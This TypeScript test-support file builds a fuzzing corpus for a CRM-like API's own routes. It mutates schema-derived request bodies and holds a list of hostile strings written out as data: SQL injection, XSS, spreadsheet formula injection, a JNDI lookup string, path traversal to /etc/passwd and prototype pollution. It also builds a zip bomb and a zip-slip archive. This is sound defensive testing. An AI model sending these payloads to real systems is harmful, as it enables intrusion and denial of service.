// The bad-input corpus: requests built from the served OpenAPI document (itself generated from
// the zod schemas the routes validate with), so a new route is covered without anyone adding it.
//   - fast-check arbitraries derived from each operation's JSON request schema;
//   - mutations of those bodies (hostile strings, wrong types, missing/extra keys, deep nesting);
//   - hostile query values, malformed JSON, wrong media types, hostile headers;
//   - a file corpus for the import routes (formula cells, BOMs, wrong encodings, duplicate
//     headers, Excel date serials, 32 kB cells, wrong magic bytes, a zip bomb).
// Pure: the proof sends it over HTTP, the integration test sends a sample to the handlers.
import fc from 'fast-check';
import iconv from 'iconv-lite';

export type Case = { family: string; method: string; url: string; headers: Record<string, string>; body?: string | Uint8Array };
type Schema = Record<string, unknown>;
type Doc = {
  paths: Record<
    string,
    Record<
      string,
      { parameters?: { name: string; in: string; schema?: Schema }[]; requestBody?: { content: Record<string, { schema?: Schema }> } }
    >
  >;
  components?: { schemas?: Record<string, Schema> };
};

export const HOSTILE: string[] = [
  'a\u0000b',
  '\u0000',
  'a\ud800b',
  '\udfff',
  '\'; DROP TABLE "Lead"; --',
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil","x")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '-2+3',
  '\t=1',
  '\r\n',
  '../../../../etc/passwd',
  '%00',
  '%E0%A4%A',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '\ufeff',
  '🙂'.repeat(50),
  'x'.repeat(70_000),
  '가'.repeat(5_000),
  ' ',
  '',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '-0',
  '__proto__',
  'constructor',
  '9'.repeat(400),
  '2026-02-30',
  '0000-00-00',
  '00000000-0000-0000-0000-000000000000',
];
const HOSTILE_VALUES: unknown[] = [
  ...HOSTILE,
  null,
  true,
  -1,
  0,
  1.5,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  1e308,
  [],
  {},
  [null],
  { __proto__: { admin: true } },
  JSON.parse('{"__proto__": {"polluted": 1}}'),
];

function resolve(s: Schema | undefined, doc: Doc): Schema {
  if (!s) return {};
  const ref = s.$ref as string | undefined;
  if (ref?.startsWith('#/components/schemas/')) return resolve(doc.components?.schemas?.[ref.split('/').pop()!], doc);
  return s;
}

/** A fast-check arbitrary for a JSON schema (the subset zod's toJSONSchema writes). */
export function arbitraryFor(schema: Schema | undefined, doc: Doc, depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(schema, doc);
  if (depth > 6) return fc.constant(null);
  const alts = (s.anyOf ?? s.oneOf) as Schema[] | undefined;
  if (alts?.length) return fc.oneof(...alts.map((a) => arbitraryFor(a, doc, depth + 1)));
  if (s.const !== undefined) return fc.constant(s.const);
  if (Array.isArray(s.enum)) return fc.constantFrom(...(s.enum as unknown[]));
  const type = Array.isArray(s.type) ? fc.constantFrom(...(s.type as string[])) : null;
  if (type) return type.chain((t) => arbitraryFor({ ...s, type: t }, doc, depth + 1));
  switch (s.type) {
    case 'string': {
      const max = Math.min(Number(s.maxLength ?? 40), 60);
      const fmt = s.format as string | undefined;
      if (fmt === 'uuid') return fc.oneof(fc.uuid(), fc.constantFrom(...HOSTILE));
      if (fmt === 'date')
        return fc.oneof(
          fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
          fc.constantFrom(...HOSTILE),
        );
      if (fmt === 'date-time')
        return fc.oneof(
          fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
          fc.constantFrom(...HOSTILE),
        );
      if (fmt === 'email') return fc.oneof(fc.emailAddress(), fc.constantFrom(...HOSTILE));
      return fc.oneof(
        { weight: 4, arbitrary: fc.string({ maxLength: max }) },
        { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: max }) },
        { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: max }) },
        { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
        { weight: 1, arbitrary: fc.stringMatching(/^-?\d{1,12}(\.\d{1,3})?$/) },
      );
    }
    case 'integer':
      return fc.oneof(
        fc.integer({ min: Number(s.minimum ?? -1e6), max: Number(s.maximum ?? 1e6) }),
        fc.integer(),
        fc.constantFrom(-1, 0, 2 ** 31, 2 ** 53),
      );
    case 'number':
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer({ min: -1000, max: 1000 }));
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(arbitraryFor(s.items as Schema, doc, depth + 1), { maxLength: 3 });
    case 'object': {
      const props = (s.properties ?? {}) as Record<string, Schema>;
      const required = new Set((s.required ?? []) as string[]);
      const entries = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, arbitraryFor(v, doc, depth + 1)]));
      const optional = Object.keys(props).filter((k) => !required.has(k));
      return fc.record(entries, { requiredKeys: [...required].filter((k) => k in props) as never[] }).map((o) => {
        for (const k of optional) if (Math.random() < 0.3) delete (o as Record<string, unknown>)[k];
        return o;
      });
    }
    default:
      return fc.anything({ maxDepth: 2 });
  }
}

/** One mutation of a (likely valid) body: a field made hostile, retyped, deleted, an extra key, or deep nesting. */
export function mutate(body: unknown, rnd: () => number): unknown {
  const pick = <T>(xs: T[]) => xs[Math.floor(rnd() * xs.length)]!;
  if (!body || typeof body !== 'object' || Array.isArray(body)) return pick(HOSTILE_VALUES);
  const o = { ...(body as Record<string, unknown>) };
  const keys = Object.keys(o);
  const m = Math.floor(rnd() * 6);
  if (m === 0 && keys.length) o[pick(keys)] = pick(HOSTILE_VALUES);
  else if (m === 1 && keys.length) delete o[pick(keys)];
  else if (m === 2) o[pick(['__proto__', 'constructor', 'isAdmin', 'version', 'id', 'ownerId', 'x'.repeat(300)])] = pick(HOSTILE_VALUES);
  else if (m === 3 && keys.length) o[pick(keys)] = JSON.parse('['.repeat(200) + ']'.repeat(200));
  else if (m === 4 && keys.length) o[pick(keys)] = { nested: pick(HOSTILE_VALUES) };
  else return [o];
  return o;
}

/** Percent-encoding that also sends a lone surrogate (as the invalid UTF-8 bytes ED A0 80 … a client could send). */
export function encodeHostile(v: string): string {
  try {
    return encodeURIComponent(v);
  } catch {
    return [...v]
      .map((ch) => {
        const c = ch.charCodeAt(0);
        if (ch.length === 1 && c >= 0xd800 && c <= 0xdfff)
          return `%${(0xe0 | (c >> 12)).toString(16)}%${(0x80 | ((c >> 6) & 0x3f)).toString(16)}%${(0x80 | (c & 0x3f)).toString(16)}`.toUpperCase();
        return encodeURIComponent(ch);
      })
      .join('');
  }
}

/** Path with its {params} filled: a real id when the context has one, else a random/hostile one. */
export function fillPath(template: string, ids: (template: string, param: string) => string | undefined, rnd: () => number): string {
  return template.replace(/\{([^}]+)\}/g, (_, p: string) => {
    const r = rnd();
    const real = ids(template, p);
    if (real && r < 0.7) return real;
    if (r < 0.85) return '00000000-0000-4000-8000-000000000000';
    return encodeHostile(HOSTILE[Math.floor(rnd() * HOSTILE.length)]!.slice(0, 200)) || 'x';
  });
}

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** The hostile files, each with its media type. */
export async function fileCorpus(): Promise<{ name: string; type: string; body: Uint8Array }[]> {
  const utf8 = (s: string) => new TextEncoder().encode(s);
  const files: { name: string; type: string; body: Uint8Array }[] = [
    {
      name: 'formula-cells',
      type: 'text/csv',
      body: utf8('email,company,notes\nf@x.co.kr,=HYPERLINK("http://e"),+1\ng@x.co.kr,@SUM(A1),-3+2\n'),
    },
    { name: 'utf8-bom', type: 'text/csv', body: utf8('\ufeffemail,company\nbom@x.co.kr,회사\n') },
    { name: 'cp949', type: 'text/csv', body: Uint8Array.from(iconv.encode('이메일,회사명\ncp@x.co.kr,한빛\n', 'cp949')) },
    {
      name: 'utf16le-bom',
      type: 'text/csv',
      body: Uint8Array.from(Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode('email,company\nu16@x.co.kr,회사\n', 'utf16le')])),
    },
    { name: 'invalid-utf8', type: 'text/csv', body: Uint8Array.from([...utf8('email,company\n'), 0xff, 0xfe, 0xc3, 0x28, 0x0a]) },
    { name: 'duplicate-headers', type: 'text/csv', body: utf8('email,email,company,company\nd@x.co.kr,e@x.co.kr,A,B\n') },
    {
      name: 'excel-date-serials',
      type: 'text/csv',
      body: utf8('email,company,expectedCloseDate\ns@x.co.kr,회사,45678\nt@x.co.kr,회사,-1\n'),
    },
    { name: 'cell-32k', type: 'text/csv', body: utf8(`email,notes\nbig@x.co.kr,"${'가'.repeat(32_768)}"\n`) },
    { name: 'nul-in-cells', type: 'text/csv', body: utf8('email,company\nn@x.co.kr,a\u0000b\n') },
    { name: 'only-header', type: 'text/csv', body: utf8('email,company\n') },
    { name: 'empty', type: 'text/csv', body: new Uint8Array() },
    { name: 'unbalanced-quotes', type: 'text/csv', body: utf8('email,company\n"q@x.co.kr,회사\n') },
    { name: 'pdf-as-xlsx', type: XLSX, body: utf8('%PDF-1.7\n%âãÏÓ\n1 0 obj<<>>endobj\n') },
    { name: 'png-as-csv', type: 'text/csv', body: Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]) },
    { name: 'zip-garbage', type: XLSX, body: Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...Array(200).fill(7)]) },
    {
      name: 'elf-binary',
      type: 'application/octet-stream',
      body: Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...Array(64).fill(0)]),
    },
  ];
  const JSZip = (await import('jszip')).default;
  const bomb = new JSZip();
  bomb.file('[Content_Types].xml', '<Types/>');
  bomb.file('xl/workbook.xml', '<workbook/>');
  bomb.file('xl/worksheets/sheet1.xml', '0'.repeat(80 * 1024 * 1024)); // 80 MB of zeros in ~80 kB
  files.push({ name: 'zip-bomb', type: XLSX, body: await bomb.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }) });
  const nested = new JSZip();
  nested.file('xl/workbook.xml', 'x');
  nested.file('../../evil.txt', 'path traversal');
  files.push({ name: 'zip-slip', type: XLSX, body: await nested.generateAsync({ type: 'uint8array' }) });
  return files;
}

export const IMPORT_ROUTES = ['/api/v1/leads/import', '/api/v1/opportunities/import', '/api/v1/accounts/import', '/api/v1/users/import'];

/** The table whose first row's id fills a path's {id}, by the path's first segment after /api/v1/. */
export const SEGMENT_TABLES: Record<string, string> = {
  opportunities: 'Opportunity',
  leads: 'Lead',
  'vrb-reviews': 'VrbReview',
  accounts: 'Account',
  contacts: 'Contact',
  postmortems: 'Postmortem',
  users: 'User',
  findings: 'VrbFinding',
  'vrb-findings': 'VrbFinding',
  'tier-reviews': 'TierReview',
  milestones: 'PaymentMilestone',
  'payment-milestones': 'PaymentMilestone',
  lessons: 'Lesson',
  'action-items': 'ActionItem',
  tokens: 'ApiToken',
  notifications: 'Notification',
  competitors: 'Competitor',
  'qa-entries': 'QaEntry',
  teams: 'Team',
};

/**
 * `size` cases over every operation of the document: each family in turn, operations round-robin.
 * `ids` returns a real id for a path parameter when there is one. Deterministic for a seed.
 */
export async function buildCorpus(
  doc: Doc,
  size: number,
  ids: (template: string, param: string) => string | undefined,
  seed = 42,
): Promise<Case[]> {
  let state = seed >>> 0;
  const rnd = () => (state = (state * 1664525 + 1013904223) >>> 0) / 2 ** 32;
  const ops = Object.entries(doc.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, op]) => ({ path, method: method.toUpperCase(), op })),
  );
  const files = await fileCorpus();
  const json = { 'content-type': 'application/json', 'accept-language': 'en' };
  const cases: Case[] = [];
  const families = ['schema', 'mutation', 'query', 'raw', 'headers', 'file'] as const;
  for (let i = 0; cases.length < size; i++) {
    const { path, method, op } = ops[i % ops.length]!;
    const family = families[Math.floor(i / ops.length) % families.length]!;
    const url = fillPath(path, ids, rnd);
    const bodySchema = op.requestBody?.content['application/json']?.schema;
    const sample = () => fc.sample(arbitraryFor(bodySchema, doc), { numRuns: 1, seed: Math.floor(rnd() * 2 ** 31) })[0];
    if (family === 'schema' && bodySchema) cases.push({ family, method, url, headers: json, body: JSON.stringify(sample()) });
    else if (family === 'mutation' && bodySchema)
      cases.push({ family, method, url, headers: json, body: JSON.stringify(mutate(sample(), rnd)) });
    else if (family === 'query') {
      const params = (op.parameters ?? []).filter((p) => p.in === 'query');
      const q = new URLSearchParams();
      for (const p of params) if (rnd() < 0.7) q.set(p.name, HOSTILE[Math.floor(rnd() * HOSTILE.length)]!.slice(0, 3000));
      q.set(
        ['limit', 'cursor', 'sort', 'q', 'x'][Math.floor(rnd() * 5)]!,
        ['-1', '%00', 'a'.repeat(3000), '1e9', '[]'][Math.floor(rnd() * 5)]!,
      );
      cases.push({
        family,
        method,
        url: `${url}?${q.toString()}`,
        headers: json,
        body: method === 'GET' || method === 'DELETE' ? undefined : '{}',
      });
    } else if (family === 'raw' && method !== 'GET') {
      const raws: [string, string | Uint8Array][] = [
        ['application/json', '{"a":'],
        ['application/json', '\u0000'],
        ['application/json', Uint8Array.from([0x7b, 0xff, 0xfe, 0x7d])],
        ['application/json', 'x'.repeat(2 * 1024 * 1024)],
        ['application/json', '['.repeat(100_000)],
        ['text/plain', '{}'],
        ['application/xml', '<a/>'],
        ['application/x-www-form-urlencoded', 'a=1&b=%ZZ'],
        ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nbroken'],
        ['application/json; charset=utf-16', '{}'],
      ];
      const [type, body] = raws[Math.floor(rnd() * raws.length)]!;
      cases.push({ family, method, url, headers: { 'content-type': type }, body });
    } else if (family === 'headers') {
      const hs: Record<string, string>[] = [
        { origin: 'null' },
        { origin: 'https://evil.example' },
        { 'x-file-name': '%E0%A4%A' },
        { 'x-file-name': '../../etc/passwd' },
        { 'accept-language': 'x'.repeat(4000) },
        { 'x-forwarded-for': '1.2.3.4, <script>' },
        { 'content-length': '99999999999' },
        { authorization: 'Bearer ' + 'A'.repeat(5000) },
        { authorization: 'Basic Og==' },
        { cookie: '__Host-authjs.session-token=%00; authjs.session-token=../../' },
      ];
      const h = hs[Math.floor(rnd() * hs.length)]!;
      const withBody = method !== 'GET' && method !== 'DELETE';
      cases.push({
        family,
        method,
        url,
        headers: { 'content-type': 'application/json', ...h },
        body: withBody ? JSON.stringify(bodySchema ? sample() : {}) : undefined,
      });
    } else if (family === 'file' && method === 'POST' && IMPORT_ROUTES.includes(path)) {
      const f = files[Math.floor(rnd() * files.length)]!;
      cases.push({
        family: `file:${f.name}`,
        method,
        url: `${url}?dryRun=true&wait=5`,
        headers: { 'content-type': f.type, 'x-file-name': `${f.name}.bin` },
        body: f.body,
      });
    } else {
      // the family does not fit this operation: a hostile JSON value instead
      const v = HOSTILE_VALUES[Math.floor(rnd() * HOSTILE_VALUES.length)];
      cases.push({ family: 'value', method, url, headers: json, body: method === 'GET' ? undefined : JSON.stringify(v) });
    }
  }
  return cases;
}

/** A stack trace or an internal path leaking in a response body. */
export const STACK_TRACE =
  /\n\s+at [^\n]+:\d+:\d+|node_modules\/|\/work\/|webpack-internal|\.tsx?:\d+:\d+|PrismaClient[A-Za-z]*Error|TypeError:|ReferenceError:/;
